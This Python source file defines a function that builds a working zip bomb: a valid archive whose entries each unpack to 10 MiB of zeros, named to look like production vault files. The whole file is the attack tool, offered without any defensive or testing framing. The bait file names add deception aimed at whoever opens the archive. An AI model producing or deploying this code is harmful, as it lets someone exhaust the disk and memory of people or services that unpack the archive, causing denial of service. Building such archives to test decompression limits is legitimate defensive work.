"""A zip archive that unpacks to a thousand times its size, made without ever having that much in hand."""

import struct
import zlib
from typing import Final

ENTRY_BYTES: Final = 10 * 1024 * 1024  # what each entry unpacks to
_DEFLATED: Final = 8
_VERSION: Final = 20


def bomb(entries: int) -> bytes:
    """An archive of this many files, each of 10 MiB of zeros in 10 KiB; sound in every field (APPNOTE 4.3)."""
    stream = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    packed = stream.compress(bytes(ENTRY_BYTES)) + stream.flush()
    common = struct.pack("<HHHHIII", 0, _DEFLATED, 0, 0, zlib.crc32(bytes(ENTRY_BYTES)), len(packed), ENTRY_BYTES)
    files, directory = bytearray(), bytearray()
    for number in range(entries):
        name = f"infra/vault/prod/{number:06}".encode()
        at = len(files)
        files += struct.pack("<IH", 0x04034B50, _VERSION) + common + struct.pack("<HH", len(name), 0) + name + packed
        directory += struct.pack("<IHH", 0x02014B50, _VERSION, _VERSION) + common
        directory += struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, at) + name
    counts = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, entries, entries, len(directory), len(files), 0)
    return bytes(files + directory + counts)
